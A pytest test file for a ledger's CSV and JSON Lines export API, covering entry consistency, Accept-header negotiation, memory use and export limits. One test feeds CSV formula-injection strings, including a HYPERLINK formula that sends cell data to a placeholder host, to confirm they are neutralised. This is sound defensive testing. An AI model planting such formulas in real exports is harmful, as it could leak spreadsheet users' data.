"""Exports of a ledger: the same entries as its pages, and a last line that never lies."""

import asyncio
import csv
import io
import itertools
import json
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import AsyncExitStack, asynccontextmanager, suppress
from dataclasses import replace
from time import monotonic
from typing import Any, Final

import httpx
import psutil
import pytest
from starlette.types import Message

from balance_app.access.errors import TooManyRequests
from balance_app.balances import ledger as ledger_module
from balance_app.balances.api import export as export_module
from balance_app.balances.api.export import (
    CSV,
    EXPORTS_PER_CLIENT,
    JSON_LINES,
    MAX_EXPORTS,
    Exporter,
    ExportResponse,
    Pages,
)
from balance_app.balances.ledger import EXPORT_PAGE, LedgerRepository, Selection
from balance_app.errors import DatabaseUnavailable, Overloaded
from tests.balances.ledgers import BEGIN, REFERENCES, add_ledger, fill
from tests.jobs.support import JobsDatabase, on
from tests.processes import Instance, connect, served, unguarded
from tests.system.sizes import report_figures, size

JSON: Final = "application/json"


async def export(
    client: httpx.AsyncClient, user_id: int, accept: str, **query: str
) -> httpx.Response:
    answer = await client.get(
        f"/api/users/{user_id}/entries", params=query, headers={"Accept": accept}
    )
    assert answer.status_code == 200, answer.text
    return answer


def read_csv(text: str) -> tuple[list[dict[str, str]], dict[str, str]]:
    """Return the rows of a complete export as dictionaries, and what its last row says."""
    *rows, last = csv.DictReader(io.StringIO(text, newline=""))
    assert last.pop("version") == "complete"
    said = dict(part.split("=") for part in last.pop("note").split("; "))
    assert set(last.values()) == {""}
    return rows, said


def read_lines(content: bytes) -> tuple[list[dict[str, Any]], dict[str, Any]]:
    """Return the entries of a complete export, and its last line."""
    assert content.endswith(b"\n")
    *entries, last = map(json.loads, content.splitlines())
    assert last.pop("complete") is True
    return entries, last


# -- what it consists of ------------------------------------------------------------------------


async def all_pages(client: httpx.AsyncClient, user_id: int, **query: str) -> list[dict[str, Any]]:
    entries: list[dict[str, Any]] = []
    after = query.pop("after", None)
    while True:
        cursor = {} if after is None else {"after": str(after)}
        page = (await export(client, user_id, JSON, **query, **cursor)).json()
        entries += page["entries"]
        after = page["next"]
        if after is None:
            return entries


async def test_an_export_has_the_entries_of_the_pages(
    client: httpx.AsyncClient, database: dict[str, str]
) -> None:
    """In both formats, in either order, with every filter; the last line sums them up."""
    admin = await connect(database)
    ledger = await add_ledger(admin, seed=5, entries=2 * EXPORT_PAGE + 1)
    await admin.close()
    user_id, middle = ledger[0].user_id, ledger[EXPORT_PAGE].at.isoformat()
    filters: list[dict[str, str]] = [
        *({}, {"from": middle}, {"to": middle}, {"from": middle, "to": middle}),
        *({"after": "0"}, {"after": "7"}, {"after": "5000"}, {"to": BEGIN.isoformat()}),
        *({"reference": str(each)} for each in REFERENCES if each is not None),
        {"reference": "none"},
    ]
    for order, query in itertools.product(("asc", "desc"), filters):
        wanted = await all_pages(client, user_id, order=order, limit="1000", **query)
        lines = await export(client, user_id, JSON_LINES, order=order, **query)
        entries, last = read_lines(lines.content)
        assert entries == wanted
        versions = [entry["version"] for entry in entries]
        newest = max(entries, key=lambda entry: int(entry["version"]), default=None)
        assert last == {
            "entries": len(entries),
            "firstVersion": min(versions, default=None),
            "lastVersion": max(versions, default=None),
            "sum": sum(entry["amount"] for entry in entries),
            "balance": newest and newest["balance"],
        }
        rows, said = read_csv((await export(client, user_id, CSV, order=order, **query)).text)
        assert rows == [
            {
                name: "" if value is None else _defused(name, str(value))
                for name, value in entry.items()
            }
            for entry in entries
        ]
        assert said == {name: "" if value is None else str(value) for name, value in last.items()}


def _defused(name: str, text: str) -> str:
    return f"'{text}" if name == "reference" and text.startswith("=") else text


async def test_an_export_is_a_file_with_a_safe_name(client: httpx.AsyncClient) -> None:
    """RFC 4180: a header line, CRLF, UTF-8; and the media type of each format."""
    table = await export(client, 1, CSV)
    assert table.headers["content-type"] == "text/csv; charset=utf-8; header=present"
    assert table.headers["content-disposition"] == 'attachment; filename="user-1-entries.csv"'
    assert table.content.startswith(b"version,amount,balance,held,at,key,reference,note,")
    assert table.content.count(b"\r\n") == table.content.count(b"\n") == 3
    lines = await export(client, 1, JSON_LINES)
    assert lines.headers["content-type"] == "application/jsonl"
    assert lines.headers["content-disposition"] == 'attachment; filename="user-1-entries.jsonl"'
    for answer in (table, lines):
        assert answer.headers["vary"] == "Accept"
        assert answer.headers["cache-control"] == "no-store"
        assert "content-length" not in answer.headers


async def test_no_cell_is_a_formula(client: httpx.AsyncClient, database: dict[str, str]) -> None:
    """Text that a spreadsheet would run gets an apostrophe, which can be taken off again.

    Numbers stay numbers, also negative ones.
    """
    texts = [
        *('=HYPERLINK("http://a.example/?"&A1,"x")', "+1", "-1", "@SUM(A1)", "=1+1", "-", "'=1"),
        *("'", '"=1"', "a=1", "1-2", 'a,"b"', "ß€💰", "\uff1d1", " =1", "x" * 200, "NULL", ";=1"),
        "complete",
    ]
    for text in texts:
        sent = {"userId": 1, "amount": -2, "reference": text, "note": text}
        key = {"Idempotency-Key": text} if text.isascii() and " " not in text else {}
        answer = await client.post("/api/balance", json=sent, headers=key)
        assert answer.status_code == 200, answer.text
    # Older rows may have what is refused today.
    admin = await connect(database)
    for version, text in enumerate(("\t=1", "\r=1", "\n=1", "a\r\nb"), len(texts) + 2):
        await admin.execute(
            "INSERT INTO entries (user_id, version, amount, balance, note)"
            " VALUES (1, $1, 1, 1, $2)",
            version,
            text,
        )
        texts.append(text)
    async with unguarded(admin):
        await admin.execute(
            "UPDATE users SET version = $1, hash = NULL WHERE id = 1", len(texts) + 1
        )
    await admin.close()

    table = (await export(client, 1, CSV)).content.decode()
    rows, _ = read_csv(table)
    for row, text in zip(rows[1:], texts, strict=True):
        assert row["note"].removeprefix("'") == text or row["note"] == text
        dangerous = text[0] in "=+-@\t\r\n\uff1d'"
        assert row["note"] == (f"'{text}" if dangerous else text)
        assert row["reference"] in {"", row["note"]}
        assert row["key"] in {"", row["note"]}
        assert row["amount"] in {"-2", "1"}
    entries, _ = read_lines((await export(client, 1, JSON_LINES)).content)
    assert [entry["note"] for entry in entries[1:]] == texts


async def test_the_numbers_of_a_table_add_up_with_its_last_row(client: httpx.AsyncClient) -> None:
    """The last row has no number in a column of numbers: a sum over the column is right."""
    for amount in (-2, 7, -9_000):
        await client.post("/api/balance", json={"userId": 1, "amount": amount})
    text = (await export(client, 1, CSV)).text
    amounts = [row["amount"] for row in csv.DictReader(io.StringIO(text, newline=""))]
    balance = (await client.get("/api/users/1")).json()["balance"]
    assert sum(int(amount) for amount in amounts if amount) == balance
    assert {len(row) for row in csv.reader(io.StringIO(text, newline=""))} == {13}


# -- which format -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("accept", "media_type"),
    [
        (None, JSON),
        ("", JSON),
        ("*/*", JSON),
        ("application/*", JSON),
        (JSON, JSON),
        ("text/csv", CSV),
        ("TEXT/CSV", CSV),
        ("text/*", CSV),
        ("application/jsonl", JSON_LINES),
        ("text/csv, application/json", JSON),
        ("text/csv, application/json;q=0.9", CSV),
        ("text/csv;q=0.5, application/jsonl;q=0.501, application/json;q=0.4", JSON_LINES),
        ("text/csv;q=0, */*", JSON),
        ("application/json;q=0, application/*", JSON_LINES),
        ("application/json;q=0, */*;q=0.1", CSV),
        ("application/json;q=0.2, application/*;q=0.9, */*;q=0.1", JSON_LINES),
        ('text/csv;charset="utf-8, or so";q=1, application/json;q=0.1', CSV),
        ("text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", JSON),
        ("text/html, image/gif, *; q=.2, */*; q=.2", JSON),
        ("text/csv;q=2, application/jsonl;q=0.1", JSON_LINES),
        (", ,text/csv,", CSV),
        ("text/csv;q=0", None),
        ("*/*;q=0", None),
        ("text/plain", None),
        ("application/xml, text/plain;q=0.1", None),
        ("json", None),
        ("text/csv/x", None),
        ("text /csv", None),
        ("text/csv;q=poison", None),
        ("\xe9/\xe9", None),
        ("*/csv", None),
        ("x" * 10_000, None),
        ("text/html," * 1000 + "text/csv;q=0.001", CSV),
        ("text/csv" + ";a" * 10_000, None),
        ('text/csv;a="' + "\\" * 10_000, None),
    ],
)
async def test_accept_chooses_the_format(
    shared: httpx.AsyncClient, accept: str | None, media_type: str | None
) -> None:
    """The type with the highest weight, of equals the first here; else a problem says what is."""
    headers = {} if accept is None else {b"Accept": accept.encode("latin-1")}
    request = shared.build_request("GET", "/api/users/1/entries", headers=headers)
    if accept is None:
        del request.headers["Accept"]
    answer = await shared.send(request)
    if media_type is None:
        assert (answer.status_code, answer.json()["code"]) == (406, "not-acceptable")
        assert answer.json()["formats"] == [JSON, CSV, JSON_LINES]
        assert "applied" not in answer.json()
    else:
        assert answer.status_code == 200
        assert answer.headers["content-type"].partition(";")[0] == media_type
    assert answer.headers["vary"] == "Accept"


@pytest.fixture(scope="module")
async def shared(postgres: dict[str, str]) -> AsyncIterator[httpx.AsyncClient]:
    """A client of one instance, for requests that change nothing."""
    async with on(postgres) as database, served(database.variables) as client:
        yield client


async def test_several_headers_are_one_list(shared: httpx.AsyncClient) -> None:
    """As with any header that is a list (RFC 9110, 5.3)."""
    answer = await shared.get(
        "/api/users/1/entries", headers=[("Accept", "application/json;q=0"), ("Accept", "text/csv")]
    )
    assert answer.headers["content-type"].startswith(CSV)


@pytest.mark.parametrize("accept", [CSV, JSON_LINES])
async def test_what_can_not_begin_is_a_problem(shared: httpx.AsyncClient, accept: str) -> None:
    """An unknown user, a wrong filter, a limit; and a HEAD has the head alone."""
    headers = {"Accept": accept}
    for path, status, code, pointer in (
        ("/api/users/99/entries", 404, "user-not-found", None),
        ("/api/users/1/entries?limit=100", 422, "invalid-request", "query:limit"),
        ("/api/users/1/entries?order=up", 422, "invalid-request", "query:order"),
        ("/api/users/1/entries?from=now", 422, "invalid-request", "query:from"),
        ("/api/users/0/entries", 422, "invalid-request", "path:userId"),
    ):
        answer = await shared.get(path, headers=headers)
        assert (answer.status_code, answer.json()["code"]) == (status, code)
        assert answer.headers["content-type"] == "application/problem+json"
        assert pointer is None or answer.json()["errors"][0]["pointer"] == pointer
    head = await shared.head("/api/users/1/entries", headers=headers)
    assert (head.status_code, head.content) == (200, b"")
    assert head.headers["content-type"].startswith(accept)


# -- one state, in small pieces -----------------------------------------------------------------


@pytest.fixture(scope="module")
async def rows(postgres: dict[str, str]) -> AsyncIterator[JobsDatabase]:
    """A migrated database for the whole file."""
    async with on(postgres) as database:
        yield database


class Download:
    """The client of one export: it takes a piece whenever `more` allows it."""

    def __init__(
        self, exporter: Exporter, pages: Pages, user_id: int = 1, address: str = "127.0.0.1"
    ) -> None:
        self.user_id = user_id
        self.more = asyncio.Semaphore(0)
        self.gone = asyncio.Event()
        self.pieces: list[bytes] = []
        self.began = asyncio.Event()
        self.complete = False
        response = ExportResponse(exporter, user_id, pages, JSON_LINES)
        scope = {"type": "http", "asgi": {"spec_version": "2.3"}, "client": (address, 1)}
        self.task = asyncio.ensure_future(response(scope, self._receive, self._send))

    async def _receive(self) -> Message:
        await self.gone.wait()
        return {"type": "http.disconnect"}

    async def _send(self, message: Message) -> None:
        if message["type"] == "http.response.body":
            self.complete = not message.get("more_body", False)
            self.pieces.append(message["body"])
            self.began.set()
            if not self.complete:
                await self.more.acquire()

    async def rest(self) -> bytes:
        """Take all the rest; return everything."""
        for _ in range(10_000):
            self.more.release()
        async with asyncio.timeout(20):
            await self.task
        return b"".join(self.pieces)


def new_exporter() -> Exporter:
    return Exporter(asyncio.Event())


def pages_of(rows: JobsDatabase, user_id: int) -> Pages:
    return LedgerRepository(rows.database).export(user_id, Selection(), after=None)


async def test_an_export_is_one_state_while_changes_go_on(client: httpx.AsyncClient) -> None:
    """All entries up to the last one when it began, and none after: the sum is the balance."""
    changing = True

    async def change() -> None:
        while changing:
            sent = {"userId": 1, "amount": 1, "reference": "r"}
            assert (await client.post("/api/balance", json=sent)).is_success

    changes = [asyncio.create_task(change()) for _ in range(4)]
    try:
        for number in range(20):
            accept, order = (CSV, JSON_LINES)[number % 2], ("asc", "desc")[number // 2 % 2]
            before = (await client.get("/api/users/1")).json()["version"]
            answer = await export(client, 1, accept, order=order)
            after = (await client.get("/api/users/1")).json()["version"]
            if accept == CSV:
                rows, said = read_csv(answer.text)
                versions = [int(row["version"]) for row in rows]
                last = {name: int(value) for name, value in said.items()}
            else:
                entries, last = read_lines(answer.content)
                versions = [entry["version"] for entry in entries]
            assert sorted(versions) == list(range(1, last["lastVersion"] + 1))
            assert versions == sorted(versions, reverse=order == "desc")
            assert last["sum"] == last["balance"] == 10_000 + last["lastVersion"] - 1
            assert before <= last["lastVersion"] <= after
    finally:
        changing = False
        await asyncio.gather(*changes)


async def test_no_piece_is_made_before_the_client_takes_it(rows: JobsDatabase) -> None:
    """So memory holds one page at most; and no session keeps a snapshot for a slow client."""
    ledger = await add_ledger(rows.admin, seed=6, entries=5 * EXPORT_PAGE)
    reads = 0

    async def counted(pages: Pages) -> Pages:
        nonlocal reads
        async for page in pages:
            assert len(page) <= EXPORT_PAGE
            reads += 1
            yield page

    download = Download(new_exporter(), counted(pages_of(rows, ledger[0].user_id)))
    await download.began.wait()
    await asyncio.sleep(0.1)
    assert (reads, len(download.pieces)) == (1, 1)
    assert await rows.admin.fetch(SNAPSHOTS) == []
    download.more.release()
    await asyncio.sleep(0.1)
    assert (reads, len(download.pieces)) == (2, 2)
    entries, last = read_lines(await download.rest())
    assert (len(entries), last["balance"]) == (len(ledger), ledger[-1].balance)


# Sessions that keep dead rows from being removed, or would keep locks.
SNAPSHOTS: Final = """
SELECT pid, state, query FROM pg_stat_activity
WHERE datname = current_database() AND pid <> pg_backend_pid()
  AND (backend_xmin IS NOT NULL OR state LIKE 'idle in transaction%')
"""


async def test_a_session_that_keeps_a_snapshot_is_found(rows: JobsDatabase) -> None:
    """The control of the test before: an export in one transaction would be seen."""
    other = await rows.connect()
    async with other.transaction(isolation="repeatable_read", readonly=True):
        await other.fetch("SELECT FROM users")
        assert len(await rows.admin.fetch(SNAPSHOTS)) == 1


# -- breaking off -------------------------------------------------------------------------------


async def broken_off(
    rows: JobsDatabase, what: Callable[[Download], Awaitable[None]], exporter: Exporter
) -> Download:
    """Let something happen after the first piece; return the download after its end."""
    ledger = await add_ledger(rows.admin, seed=7, entries=3 * EXPORT_PAGE)
    user_id = ledger[0].user_id
    download = Download(exporter, pages_of(rows, user_id), user_id)
    await download.began.wait()
    await what(download)
    with suppress(Exception):
        await download.rest()
    assert download.task.done()
    assert download.task.exception() is None
    return download


def says_complete(download: Download) -> bool:
    return download.complete or b'"complete"' in b"".join(download.pieces)


async def test_nothing_breaks_off_by_itself(rows: JobsDatabase) -> None:
    """The control: with nothing in between, the export says that it is complete."""

    async def nothing(_download: Download) -> None:
        pass

    exporter = new_exporter()
    assert says_complete(await broken_off(rows, nothing, exporter))
    with exporter.seats.take({}):
        pass


async def test_a_stopping_instance_ends_its_exports(rows: JobsDatabase) -> None:
    """After the piece under way, without a last line."""
    stopping = asyncio.Event()
    exporter = Exporter(stopping)

    async def stop(_download: Download) -> None:
        stopping.set()

    assert not says_complete(await broken_off(rows, stop, exporter))


async def test_an_outage_ends_an_export(
    rows: JobsDatabase, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A page that can't be read: no last line, and no traceback."""

    async def fail(_download: Download) -> None:
        async def refuse(*_arguments: object, **_options: object) -> None:
            raise DatabaseUnavailable("It is unavailable.", applied="no")

        monkeypatch.setattr(rows.database, "run", refuse)

    assert not says_complete(await broken_off(rows, fail, new_exporter()))


async def test_a_lost_connection_ends_no_export(rows: JobsDatabase) -> None:
    """Between two pages it has none: another one reads the next."""

    async def cut(_download: Download) -> None:
        await rows.admin.fetch(
            "SELECT pg_terminate_backend(pid) FROM pg_stat_activity"
            " WHERE datname = current_database() AND pid <> pg_backend_pid()"
        )
        async with asyncio.timeout(20):
            while not all(each.is_closed() for each in rows.database._open):  # noqa: ASYNC110 - of the driver
                await asyncio.sleep(0.01)

    assert says_complete(await broken_off(rows, cut, new_exporter()))


async def lose_the_newest(rows: JobsDatabase) -> Download:
    async def lose(download: Download) -> None:
        await rows.admin.execute("SET session_replication_role = replica")
        await rows.admin.execute(
            "UPDATE entries SET at = at + interval '1 s' WHERE user_id = $1 AND version = $2",
            download.user_id,
            3 * EXPORT_PAGE,
        )
        await rows.admin.execute("RESET session_replication_role")

    return await broken_off(rows, lose, new_exporter())


async def test_a_ledger_that_was_replaced_ends_an_export(
    rows: JobsDatabase, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Entries lost in a failover and made anew: the pages are of two states. With its control."""
    assert not says_complete(await lose_the_newest(rows))
    monkeypatch.setattr(
        ledger_module, "_newest_of", lambda versions: replace(versions, first=1, last=0)
    )
    assert says_complete(await lose_the_newest(rows))


async def test_a_client_that_takes_nothing_ends_its_export(
    rows: JobsDatabase, monkeypatch: pytest.MonkeyPatch
) -> None:
    """After `READER_SECONDS`, so that it does not count for ever."""
    monkeypatch.setattr(export_module, "READER_SECONDS", 0.05)
    exporter = new_exporter()

    async def wait(download: Download) -> None:
        await asyncio.wait({download.task}, timeout=20)

    assert not says_complete(await broken_off(rows, wait, exporter))


async def test_a_client_that_is_gone_ends_its_export(rows: JobsDatabase) -> None:
    """At once, also while a piece waits for it."""

    async def leave(download: Download) -> None:
        download.gone.set()
        await asyncio.wait({download.task}, timeout=20)

    download = await broken_off(rows, leave, new_exporter())
    assert (len(download.pieces), says_complete(download)) == (1, False)


async def test_so_many_exports_run_at_once(rows: JobsDatabase) -> None:
    """One more is refused with 503, until another has ended, however that ended.

    One client gets half of them, then 429.
    """
    ledger = await add_ledger(rows.admin, seed=8, entries=2 * EXPORT_PAGE)
    exporter = new_exporter()

    def begin(address: str = "127.0.0.1") -> Download:
        pages = pages_of(rows, ledger[0].user_id)
        return Download(exporter, pages, address=address)

    downloads = [begin() for _ in range(EXPORTS_PER_CLIENT)]
    for download in downloads:
        await download.began.wait()
    with pytest.raises(TooManyRequests):
        await begin().task
    downloads += [begin("127.0.0.2") for _ in range(MAX_EXPORTS - EXPORTS_PER_CLIENT)]
    for download in downloads:
        await download.began.wait()
    refused = begin("127.0.0.3")
    with pytest.raises(Overloaded) as full:
        await refused.task
    assert full.value.headers == {"Retry-After": "1"}
    assert refused.pieces == []
    downloads[0].gone.set()
    await asyncio.wait({downloads[0].task})
    downloads[1].task.cancel()
    await asyncio.wait({downloads[1].task})
    downloads += [begin(), begin()]
    for download in downloads[2:]:
        read_lines(await download.rest())


# -- a whole instance ---------------------------------------------------------------------------


@asynccontextmanager
async def reading(
    instance: Instance, user_id: int, address: str = "127.0.0.1"
) -> AsyncIterator[asyncio.StreamReader]:
    """Ask for an export, and read its head; a small buffer lets the server wait soon."""
    reader, writer = await asyncio.open_connection(
        "127.0.0.1", instance.port, limit=2**16, local_addr=(address, 0)
    )
    writer.write(
        f"GET /api/users/{user_id}/entries HTTP/1.1\r\nHost: localhost\r\n"
        f"Accept: {JSON_LINES}\r\n\r\n".encode()
    )
    head = await reader.readuntil(b"\r\n\r\n")
    assert head.startswith(b"HTTP/1.1 200 ")
    try:
        yield reader
    finally:
        writer.close()


async def large_ledger(database: dict[str, str], entries: int) -> int:
    admin = await connect(database)
    user_id = await fill(admin, entries)
    await admin.close()
    return user_id


async def test_a_stop_ends_exports_soon(database: dict[str, str], instance: Instance) -> None:
    """Of a client that reads, and of one that does not: the process ends, neither is complete."""
    user_id = await large_ledger(database, 100_000)
    async with reading(instance, user_id) as eager, reading(instance, user_id):
        await eager.readexactly(1000)
        assert await instance.stop() == 0
        rest = await eager.read()
    assert b'"complete"' not in rest
    assert not rest.endswith(b"0\r\n\r\n")


async def test_changes_go_on_while_clients_stop_reading(
    database: dict[str, str], instance: Instance, client: httpx.AsyncClient
) -> None:
    """As many exports as there may be, none of which is read: no snapshot, and no delay."""
    user_id = await large_ledger(database, 100_000)
    admin = await connect(database)
    async with AsyncExitStack() as stack:
        for number in range(MAX_EXPORTS):
            address = f"127.0.0.{2 + number // EXPORTS_PER_CLIENT}"
            await stack.enter_async_context(reading(instance, user_id, address))
        full = await client.get(f"/api/users/{user_id}/entries", headers={"Accept": CSV})
        assert (full.status_code, full.headers["retry-after"]) == (503, "1")
        assert (await client.get(f"/api/users/{user_id}/entries")).is_success
        for _ in range(100):
            changed = await client.post("/api/balance", json={"userId": user_id, "amount": 1})
            assert changed.status_code == 200
        assert await admin.fetch(SNAPSHOTS) == []
    nothing = f"/api/users/{user_id}/entries?from=2999-01-01T00:00:00Z"
    async with asyncio.timeout(20):
        while (await client.get(nothing, headers={"Accept": CSV})).status_code != 200:  # noqa: ASYNC110 - of another process
            await asyncio.sleep(0.05)
    await admin.close()


def resident_bytes(instance: Instance) -> int:
    return int(psutil.Process(instance.pid).memory_info().rss)


async def export_all(database: dict[str, str], entries: int, *program: str) -> int:
    """Export a large ledger; return by how much the instance's memory grew at most, in bytes."""
    user_id = await large_ledger(database, entries)
    options = {"program": program} if program else {}
    async with Instance(database, JOBS_ENABLED="false", **options) as instance:  # type: ignore[arg-type] # one option
        async with reading(instance, 1) as small:
            await small.readuntil(b"0\r\n\r\n")
        before = most = resident_bytes(instance)
        tail, began = b"", monotonic()
        async with reading(instance, user_id) as reader:
            while not tail.endswith(b"0\r\n\r\n"):
                tail = (tail + await reader.read(2**18))[-1000:]
                most = max(most, resident_bytes(instance))
    last = json.loads(tail.splitlines()[-4])
    assert (last["complete"], last["entries"], last["sum"]) == (True, entries, entries)
    report_figures(
        f"{entries} entries in {monotonic() - began:.1f} s, "
        f"resident memory {before / MIB:.1f} to {most / MIB:.1f} MiB"
    )
    return most - before


async def test_memory_is_flat(database: dict[str, str], instance: Instance) -> None:  # noqa: ARG001 - it migrates
    """However many entries there are: some pages, and what the sockets hold."""
    assert await export_all(database, size(small=100_000, full=1_000_000)) < FLAT


async def test_memory_grows_without_pages(database: dict[str, str], instance: Instance) -> None:  # noqa: ARG001 - it migrates
    """The control: when all entries are one page."""
    assert await export_all(database, 100_000, "tests.mutants", "export-page") > FLAT


MIB: Final = 2**20
FLAT: Final = 24 * MIB
